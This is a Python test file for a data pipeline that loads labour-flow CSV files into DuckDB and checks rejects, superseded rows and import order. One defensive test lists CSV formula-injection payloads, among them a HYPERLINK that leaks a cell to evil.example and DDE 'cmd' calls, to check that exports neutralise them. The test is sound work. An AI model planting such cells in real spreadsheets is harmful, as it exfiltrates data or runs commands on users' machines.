                (f"{F}:5", "count", "'-0' is a signed zero: write 0"),
                (f"{F}:6", "count", "'2.5' has a fraction; this column counts whole projects"),
                (f"{F}:7", "count", "'1e3' has an exponent"),
            ],
            total=160,
        ),
        "remotework fractional and separated counts": Case(
            "remotework",
            [remotework(RW, rw_row(1) + rw_row(2, count="1.234") + rw_row(3, count="2.5"), 3)],
            [
                (f"{RW}:3", "count", "thousands separator (1234)"),
                (f"{RW}:4", "count", "has a fraction"),
            ],
            total=3,
        ),
        "oli whole employer counts, fractional worker counts": Case(
            "oli",
            [
                oli_employers(
                    E16, EMPLOYERS + "2016-06-01,India,India,Writing and translation,1.234\n", 3
                ),
                oli_workers(
                    W17,
                    "2017-06-16,India,Writing and translation,20.5,0\n"
                    "2017-06-16,India,Software development and technology,1.234,0\n"
                    '2017-06-17,India,Writing and translation,"1,5",0\n',
                    3,
                ),
            ],
            [
                (f"{E16}:4", "count", "'1.234' reads as a number with a thousands separator"),
                (f"{W17}:4", "num_workers", "'1,5' has a thousands separator or a decimal comma"),
            ],
        ),
    }
)


@pytest.fixture()
def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("ATLAS_RAW", str(tmp_path / "raw"))
    monkeypatch.setenv("ATLAS_STAGING", str(tmp_path / "staging"))
    return tmp_path


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def import_all(case: Case, root: Path) -> str:
    """Write the case's files and import them folder by folder, in order, as a user would;
    returns what the imports told the user of the files they refused."""
    folders: list[str] = []
    for file in case.files:
        folder = root / "given" / file.folder
        folder.mkdir(parents=True, exist_ok=True)
        (folder / file.name).write_bytes(file.content)
        if file.folder not in folders:
            folders.append(file.folder)
    said = io.StringIO()
    # a file refused in a folder is reported by the storing module's log, the others stored
    handler = logging.StreamHandler(said)
    logger = logging.getLogger("pipeline.sources.storing")
    logger.addHandler(handler)
    try:
        for name in folders:
            given = root / "given" / name
            single = [f for f in case.files if f.folder == name]
            target = given / single[0].name if len(single) == 1 else given
            lines: list[str] = []
            with contextlib.redirect_stderr(said):
                code = run_fetch(case.source, target, None, out=lines.append)
            # stored and reported (what it gives, what it rejects); refused only when the
            # content contradicts the name, and then the import says so and fails if it
            # stored nothing
            refused = [f for f in single if f.refused]
            assert code == (1 if len(refused) == len(single) else 0), (lines, said.getvalue())
    finally:
        logger.removeHandler(handler)
    return said.getvalue()


def rejected_lines(name: str, rejects: list[tuple]) -> set[str]:
    """The records of one file that have a reject ("name:line" or "name:projects[i]"); a
    quote that does not close rejects its own line only, so every reject is one record."""
    return {location for location, *_ in rejects if location.startswith(name + ":")}


def summed_repeats(name: str, rejects: list[tuple]) -> int:
    """The lines of one file rejected by the reject that sums up their repeats, besides that
    reject's own line (which rejected_lines gives)."""
    return sum(
        repeats - 1
        for location, *_, repeats in rejects
        if repeats and location.startswith(name + ":")
    )


def staged_rows(source: str, staging: Path, rejected: set[str]) -> dict[str, int]:
    """Rows each parsed raw file left in staging, by raw file name, leaving out the records
    that have a reject (OLI keeps its unmapped rows in staging for the year's remainder)."""
    out: dict[str, int] = {}
    for entry in (staging / "_files" / source).glob("*.json"):
        record = json.loads(entry.read_text(encoding="utf-8"))
        for table, files in record["files"].items():
            if table == "rejects":
                continue
            for f in files:
                rows = pq.read_table(staging / f).to_pylist()
                for row in rows:
                    where = row.get("location") or f"{row['file_name']}:{row['line']}"
                    if where not in rejected:
                        out[record["name"]] = out.get(record["name"], 0) + 1
    return out


@pytest.mark.bad_input
@pytest.mark.parametrize("name", sorted(CASES))
def test_every_record_is_loaded_rejected_or_superseded_exactly_once(name: str, root: Path) -> None:
    case = CASES[name]
    said = import_all(case, root)
    refused = [f for f in case.files if f.refused]
    for file in refused:
        # one message names the file, says why and that nothing of it was kept
        assert any(
            file.name in line and file.refused in line and "nothing was stored" in line
            for line in said.splitlines()
        ), said
    report = build_database(
        root / "db" / "atlas.duckdb", raw_root=root / "raw", staging_root=root / "staging"
    )  # a bad input never blocks the build: this raises on any failure
    con = duckdb.connect(str(report.db_path), read_only=True)
    try:
        rejects = con.execute(
            "select location, field, reason, repeats from core__rejects where source_id = ? "
            "order by 1, 2",
            [case.source],
        ).fetchall()
        # rows whose flow key a more recently imported file gives: superseded, not rejected
        replaced = {r[0] for r in rejects if r[2].startswith("superseded by ")}
        rejects = [r for r in rejects if not r[2].startswith("superseded by ")]
        total = con.execute(
            "select sum(amount) from core__tallies where source_id = ?", [case.source]
        ).fetchone()[0]
        tasks = con.execute(
            "select count(*) from core__tasks where source_id = ?", [case.source]
        ).fetchone()[0]
        years = dict(
            con.execute(
                "select year(period_start), sum(amount) from core__tallies where source_id = ? "
                "group by all order by all",
                [case.source],
            ).fetchall()
        )
    finally:
        con.close()

    # rows in: what the test wrote, each distinct content once (identical bytes are stored once)
    written = {sha(f.content): f.rows for f in case.files if not f.refused}
    inventory = open_store(case.source, root / "raw").inventory()
    by_status: dict[str, int] = {}
    for entry in inventory:
        rows = written[sha(entry.path.read_bytes())]
        by_status[entry.status] = by_status.get(entry.status, 0) + rows
    assert set(by_status) <= {"loaded", "superseded"}, inventory
    assert sum(by_status.values()) == sum(written.values())

    loaded = rejected = 0
    for entry in inventory:
        if entry.status != "loaded":
            continue
        name_ = entry.path.name
        # a reject of the whole file, or of a table's header (line 1): none of its rows loads
        whole = [r for r in rejects if r[0] in (name_, f"{name_}:1")]
        lines = rejected_lines(name_, rejects)
        if whole:
            assert staged_rows(case.source, root / "staging", set()).get(name_, 0) == 0
            rejected += written[sha(entry.path.read_bytes())]
        else:
            loaded += staged_rows(case.source, root / "staging", lines | replaced).get(name_, 0)
            rejected += len(lines) + summed_repeats(name_, rejects)
    # a file refused at import is rejected whole, with the message checked above
    rejected += sum(f.rows for f in refused)
    superseded = by_status.get("superseded", 0) + len(replaced)
    rows_in = sum(written.values()) + sum(f.rows for f in refused)
    accounted = loaded + rejected + superseded
    lost, double_counted = max(0, rows_in - accounted), max(0, accounted - rows_in)
    assert (lost, double_counted) == (0, 0), (rows_in, loaded, rejected, superseded)
    assert superseded == case.superseded

    assert len(rejects) == len(case.rejects), rejects
    for (location, field_, reason, _), (want_location, want_field, want_reason) in zip(
        sorted(rejects, key=lambda r: (r[0], r[1] or "")),
        sorted(case.rejects, key=lambda r: (r[0], r[1] or "")),
        strict=True,
    ):
        assert (location, field_) == (want_location, want_field), rejects
        assert want_reason in reason, rejects
    if case.total is not None:
        assert total == case.total
    if case.tasks is not None:
        assert tasks == case.tasks
    if case.years is not None:
        assert years == case.years


def test_a_corrected_copy_under_another_name_is_reported_and_rebuilds_alike(root: Path) -> None:
    first, later = root / "given" / "first", root / "given" / "later"
    for folder in (first, later):
        folder.mkdir(parents=True)
        (folder / F).write_text(CSV_HEADER + GOOD + "FRA,MAR,7,2019\n", encoding="utf-8")
    (later / "flows (corrected).csv").write_text(
        CSV_HEADER + "USA,IND,12,2019\nGBR,PAK,40,2019\n", encoding="utf-8"
    )
    assert run_fetch("csv", first / F, None, out=lambda _: None) == 0
    assert run_fetch("csv", later, None, out=lambda _: None) == 0

    def build() -> tuple[list[str], list[tuple], list[tuple]]:
        report = build_database(
            root / "db" / "atlas.duckdb", raw_root=root / "raw", staging_root=root / "staging"
        )
        con = duckdb.connect(str(report.db_path), read_only=True)
        try:
            tallies = con.execute(
                "select buyer_country_code, seller_country_code, amount, location "
                "from core__tallies where source_id = 'csv' order by all"
            ).fetchall()
            rejects = con.execute(
                "select location, field, value, reason from core__rejects "
                "where source_id = 'csv' order by all"
            ).fetchall()
        finally:
            con.close()
        return report.lines(), tallies, rejects

    lines, tallies, rejects = build()
    assert tallies == [
        ("FRA", "MAR", 7.0, f"{F}:4"),
        ("GBR", "PAK", 40.0, "flows_corrected.csv:3"),
        ("USA", "IND", 12.0, "flows_corrected.csv:2"),
    ]
    reason = "superseded by flows_corrected.csv: same pair, year, platform and occupation"
    assert rejects == [(f"{F}:2", "count", "120.0", reason), (f"{F}:3", "count", "40.0", reason)]
    summary = "\n".join(lines)
    assert "csv: 5 records read, 3 loaded, 0 rejected, 2 superseded" in summary
    assert f"  2 rows of {F} {reason}" in summary.splitlines()
    # the second build reuses the staging: same tables, same summary
    again, *tables = build()
    assert tables == [tallies, rejects]
    assert f"  2 rows of {F} {reason}" in "\n".join(again).splitlines()


def test_the_import_order_decides_even_with_staging_kept_from_another_store(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Staged rows carry their file's import order: the same bytes imported again in the other
    order (data/raw rebuilt, data/staging kept) are parsed again, not taken from the cache."""
    given = root / "given"
    given.mkdir()
    (given / "a.csv").write_text(CSV_HEADER + "USA,IND,12,2019\n", encoding="utf-8")
    (given / "b.csv").write_text(CSV_HEADER + "USA,IND,120,2019\n", encoding="utf-8")
    totals = []
    for store, order in (("raw1", "ab"), ("raw2", "ba")):
        monkeypatch.setenv("ATLAS_RAW", str(root / store))
        for name in order:
            assert run_fetch("csv", given / f"{name}.csv", None, out=lambda _: None) == 0
        report = build_database(
            root / "db" / store / "atlas.duckdb",
            raw_root=root / store,
            staging_root=root / "staging",
        )
        con = duckdb.connect(str(report.db_path), read_only=True)
        try:
            totals.append(
                con.execute(
                    "select sum(amount) from core__tallies where source_id = 'csv'"
                ).fetchone()[0]
            )
        finally:
            con.close()
    assert totals == [120.0, 12.0]


def test_a_folder_given_once_with_a_table_and_its_later_corrected_copy_loads_the_copy(
    root: Path,
) -> None:
    # the corrected copy's name sorts first; its later modification time must decide
    given = root / "given" / "in"
    given.mkdir(parents=True)
    (given / F).write_text(CSV_HEADER + GOOD, encoding="utf-8")
    corrected = given / "flows (corrected).csv"
    corrected.write_text(CSV_HEADER + "USA,IND,12,2019\nGBR,PAK,40,2019\n", encoding="utf-8")
    older = (given / F).stat().st_mtime
    os.utime(corrected, (older + 60, older + 60))
    assert run_fetch("csv", given, None, out=lambda _: None) == 0
    report = build_database(
        root / "db" / "atlas.duckdb", raw_root=root / "raw", staging_root=root / "staging"
    )
    con = duckdb.connect(str(report.db_path), read_only=True)
    try:
        total = con.execute(
            "select sum(amount) from core__tallies where source_id = 'csv'"
        ).fetchone()
    finally:
        con.close()
    assert total == (52.0,)


def _cli(root: Path, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
    done = subprocess.run(
        [sys.executable, "-m", "pipeline", *args],
        cwd=paths.ROOT,
        env={
            **os.environ,
            "ATLAS_RAW": str(root / "raw"),
            "ATLAS_STAGING": str(root / "staging"),
            "ATLAS_DB": str(root / "db" / "atlas.duckdb"),
            **env,
        },
        capture_output=True,
        timeout=300,
    )
    # decoded as written: a carriage return inside a cell stays one
    return subprocess.CompletedProcess(
        done.args, done.returncode, done.stdout.decode(), done.stderr.decode()
    )


@pytest.mark.bad_input
def test_a_file_with_misspelled_headers_is_quarantined_in_every_summary(root: Path) -> None:
    """Before, the build's summary called it quarantined and, a few lines below, `loaded`."""
    given = root / "given" / F
    given.parent.mkdir(parents=True)
    given.write_text("buyer_contry,seller_country,count,yaer\nUSA,IND,1,2019\nGBR,PAK,2,2019\n")
    fetched = _cli(root, "fetch", "csv", "--from", str(given))
    built = _cli(root, "db")
    listed = _cli(root, "raw")
    for done in (fetched, built, listed):
        assert done.returncode == 0, done.stderr
        mentions = [line for line in done.stdout.splitlines() if F in line]
        assert mentions and not any(re.search(r"\bloaded\b.*" + F, m) for m in mentions), mentions
        assert any("quarantined" in m for m in mentions), mentions
        assert "did you mean 'buyer_contry'? rename it to buyer_country" in done.stdout
        assert "did you mean 'yaer'? rename it to year" in done.stdout
    assert "raw files of csv: 0 loaded, 1 quarantined" in fetched.stdout
    assert "raw files of csv: 0 loaded, 1 quarantined" in built.stdout
    assert "csv: 2 records read, 0 loaded, 2 rejected" in built.stdout


# Cells a spreadsheet would run as a formula (OWASP "CSV Injection"), and numbers that must stay
# numbers; make query FORMAT=csv writes each as text a spreadsheet shows.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "=cmd|' /C notepad'!'A1'",
]


@pytest.mark.bad_input
def test_make_query_csv_writes_no_cell_a_spreadsheet_would_run(root: Path) -> None:
    """Before, `make query FORMAT=csv` printed `=HYPERLINK(…)` and `@SUM(…)` as they were."""
    given = root / "given" / F
    given.parent.mkdir(parents=True)
    with given.open("w", newline="", encoding="utf-8") as handle:
        out = csv_module.writer(handle)
        out.writerow(["buyer_country", "seller_country", "count", "year", "platform"])
        for n, platform in enumerate(FORMULAS, start=1):
            out.writerow(["USA", "IND", n, 2019, platform])
    assert _cli(root, "fetch", "csv", "--from", str(given)).returncode == 0
    assert _cli(root, "db").returncode == 0
    query = (
        "select platform, sum(amount) as projects, -sum(amount) as negative, "
        "chr(9) || '=1+1' as tab, chr(13) || '=1+1' as cr, '-4' as minus_text "
        "from core__tallies where source_id = 'csv' group by platform order by projects"
    )
    done = _cli(root, "query", Q=query, FORMAT="csv")
    assert done.returncode == 0, done.stderr
    assert done.stdout.endswith("\r\n")
    rows = list(csv_module.reader(io.StringIO(done.stdout, newline="")))
    assert rows[0] == ["platform", "projects", "negative", "tab", "cr", "minus_text"]
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]
    # numbers stay numbers, a negative one too
    assert [(r[1], r[2], r[5]) for r in rows[1:]] == [
        (f"{n}.0", f"-{n}.0", "-4") for n in range(1, 6)
    ]
    assert {(r[3], r[4]) for r in rows[1:]} == {("'\t=1+1", "'\r=1+1")}
    injections = [
        cell
        for row in rows
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-[0-9.]+", cell)
    ]
    assert injections == []


def build_in(root: Path):
    return build_database(
        root / "db" / "atlas.duckdb", raw_root=root / "raw", staging_root=root / "staging"
    )


def query(report, sql: str, params: list | None = None) -> list[tuple]:
    con = duckdb.connect(str(report.db_path), read_only=True)
    try:
        return con.execute(sql, params or []).fetchall()
    finally:
        con.close()


@pytest.mark.bad_input
def test_two_independent_tables_sharing_a_key_are_shown_with_their_totals_and_a_way_out(
    root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from pipeline.cli import main

    given = root / "given"
    given.mkdir()
    upwork, survey = given / "upwork_2019.csv", given / "survey_2019.csv"
    upwork.write_text(CSV_HEADER + "USA,IND,120,2019\nGBR,PAK,40,2019\n", encoding="utf-8")
    survey.write_text(CSV_HEADER + "USA,IND,12,2019\nFRA,MAR,7,2019\n", encoding="utf-8")
    assert run_fetch("csv", upwork, None, out=lambda _: None) == 0
    told: list[str] = []
    assert run_fetch("csv", survey, None, out=told.append) == 0
    id_upwork, id_survey = sha(upwork.read_bytes())[:12], sha(survey.read_bytes())[:12]
    # neither file has a platform: both are "user data", and USA -> IND 2019 is in both
    keys = (
        "1 key: USA->IND 2019 (user data, unknown); upwork_2019.csv gives 120 for them "
        "(not loaded), survey_2019.csv gives 12 (loaded)"
    )
    way_out = (
        "to keep both, give each file its own platform, or a dataset column, and import it "
        "again under its name; to keep one, `make raw RETIRE=<id>` the other "
        f"(upwork_2019.csv is {id_upwork}, survey_2019.csv is {id_survey})"
    )
    # the import of the second table says so at once ...
    assert "  1 rows of upwork_2019.csv superseded by survey_2019.csv" in told
    assert f"    {keys}" in told and f"    {way_out}" in told
    # ... the build ...
    lines = "\n".join(build_in(root).lines()).splitlines()
    assert [line for line in lines if line.startswith("csv: ")] == [
        "csv: 4 records read, 3 loaded, 0 rejected, 1 superseded "
        "(2 files, 2 unchanged since the last build)"
    ]
    assert (
        "  1 rows of upwork_2019.csv superseded by survey_2019.csv: same pair, year, platform "
        "and occupation"
    ) in lines
    assert f"    {keys}" in lines and f"    {way_out}" in lines
    # ... and `make raw`
    capsys.readouterr()
    assert main(["raw"]) == 0
    listed = capsys.readouterr().out.splitlines()
    assert "  1 rows of upwork_2019.csv superseded by survey_2019.csv" in listed
    assert f"    {keys}" in listed and f"    {way_out}" in listed

    def totals() -> list[tuple]:
        return query(
            build_in(root),
            "select platform, sum(amount) from core__tallies where source_id = 'csv' "
            "group by all order by all",
        )

    assert totals() == [("user data", 40 + 12 + 7)]
    # keep one: the newer table retired by the id shown, the older one's key comes back
    assert main(["raw", "--retire", id_survey]) == 0
    assert totals() == [("user data", 120 + 40)]
    assert main(["raw", "--restore", id_survey]) == 0
    # keep both: a dataset column in one of them, imported again under its name
    upwork.write_text(
        "buyer_country,seller_country,count,year,dataset\n"
        "USA,IND,120,2019,Upwork export\nGBR,PAK,40,2019,Upwork export\n",
        encoding="utf-8",
    )
    told.clear()
    assert run_fetch("csv", upwork, None, out=told.append) == 0
    # the table's older version is superseded by this one; no flow key is shared any more
    assert not [line for line in told if " rows of " in line]
    assert totals() == [("user data", 12 + 7), ("user data (Upwork export)", 120 + 40)]
    capsys.readouterr()
    assert main(["raw"]) == 0
    assert "give the same flow keys" not in capsys.readouterr().out


REMOTEWORK_DIR = Path(__file__).parents[1] / "fixtures" / "remotework"


@pytest.mark.bad_input
def test_the_fixture_years_keep_their_own_totals_whatever_the_2015_file_carries(
    root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    y2014 = (REMOTEWORK_DIR / "handmade_network_2014.csv").read_text(encoding="utf-8")
    y2015 = (REMOTEWORK_DIR / "handmade_network_2015.csv").read_text(encoding="utf-8")
    rows_2014 = y2014.splitlines(keepends=True)[1:]
    assert len(rows_2014) == 20
    first, later, wrong = root / "given" / "first", root / "given" / "later", root / "given" / "x"
    for folder in (first, later, wrong):
        folder.mkdir(parents=True)
    (first / RW14).write_text(y2014, encoding="utf-8")
    # the 2015 file (40 rows, lines 2-41) with the 20 rows of 2014 appended (lines 42-61)
    (later / RW).write_text(y2015 + "".join(rows_2014), encoding="utf-8")
    assert run_fetch("remotework", first / RW14, None, out=lambda _: None) == 0
    assert run_fetch("remotework", later / RW, None, out=lambda _: None) == 0

    def years() -> dict[int, float]:
        return dict(
            query(
                build_in(root),
                "select year(period_start), sum(amount) from core__tallies "
                "where source_id = 'remotework' group by all",
            )
        )

    # 2014: the 20 rows of its own file, 6+3+4+2+3+1+3+1+2+3+1+2+1+1+2+1+2+1+1+1 = 41 projects
    # (not 82); 2015: its counts add up to 64, less the rows of netherlands antilles (1),
    # antarctica (1) and NA (2), which are rejected (the count "x" is not a number): 60
    assert years() == {2014: 41, 2015: 60}
    report = build_in(root)
    rejects = query(
        report,
        "select location, field, value, reason from core__rejects "
        "where source_id = 'remotework' and reason like 'a row of%'",
    )
    assert sorted(int(loc.rsplit(":", 1)[1]) for loc, *_ in rejects) == list(range(42, 62))
    assert {(loc.split(":")[0], field, value) for loc, field, value, _ in rejects} == {
        (RW, "year", "2014-01-01")
    }
    assert {reason for *_, reason in rejects} == {
        "a row of 2014 in the file of 2015: a year is counted from its own file "
        "(olm_network_data_2014.csv), not here"
    }

    # the 2015 file saved under the 2014 name is refused, and 2014 keeps its file
    (wrong / RW14).write_text(y2015, encoding="utf-8")
    capsys.readouterr()
    assert run_fetch("remotework", wrong / RW14, None, out=lambda _: None) == 1
    assert capsys.readouterr().err == (
        f"error: {RW14}: its name says 2014, but only 0 of its 40 rows are of 2014 "
        "(40 of 2015): save it as olm_network_data_2015.csv and import it again; "
        "nothing was stored\n"
    )
    assert years() == {2014: 41, 2015: 60}
    assert [e.status for e in open_store("remotework", root / "raw").inventory()] == [
        "loaded",
        "loaded",
    ]


@pytest.mark.bad_input
def test_an_oli_extract_beside_its_deposit_is_reported_with_its_days_and_totals(
    root: Path,
) -> None:
    """Before, the extract's June was added to the deposit's: two sets of 2016 employer
    shares, twice the estimated work, and nothing said."""
    first, later = root / "given" / "first", root / "given" / "later"
    first.mkdir(parents=True)
    later.mkdir(parents=True)
    (first / E16).write_text(OLI_EMPLOYERS + EMPLOYERS + JULY, encoding="utf-8")
    (later / "bcountrydata_june.txt").write_text(OLI_EMPLOYERS + EMPLOYERS, encoding="utf-8")
    assert run_fetch("oli", first / E16, None, out=lambda _: None) == 0
    assert run_fetch("oli", later / "bcountrydata_june.txt", None, out=lambda _: None) == 0
    id_deposit = sha((first / E16).read_bytes())[:12]
    id_extract = sha((later / "bcountrydata_june.txt").read_bytes())[:12]
    report = build_in(root)
    lines = "\n".join(report.lines()).splitlines()
    assert [line for line in lines if line.startswith("oli: ")] == [
        "oli: 5 records read, 3 loaded, 0 rejected, 2 superseded "
        "(2 files, 2 unchanged since the last build)"
    ]
    assert (
        "  2 rows of bcountrydata_june.txt superseded by bcountrydata_2016-07-10.txt: the same "
        "day of the bcountrydata series"
    ) in lines
    # the one shared day, and the 10 + 6 projects each file gives on it
    assert (
        "    1 day: 2016-06-01; bcountrydata_june.txt gives 16 for them (not loaded), "
        "bcountrydata_2016-07-10.txt gives 16 (loaded)"
    ) in lines
    assert (
        "    to keep one, `make raw RETIRE=<id>` the other (bcountrydata_june.txt is "
        f"{id_extract}, bcountrydata_2016-07-10.txt is {id_deposit})"
    ) in lines
    # one set of 2016 employer shares, from the deposit
    assert query(
        report,
        "select location, buyer_country_code, amount from core__tallies "
        "where source_id = 'oli' and measure = 'share_pct' order by all",
    ) == [(f"{E16}:2016", "IND", 100 * 9 / 19), (f"{E16}:2016", "USA", 100 * 10 / 19)]
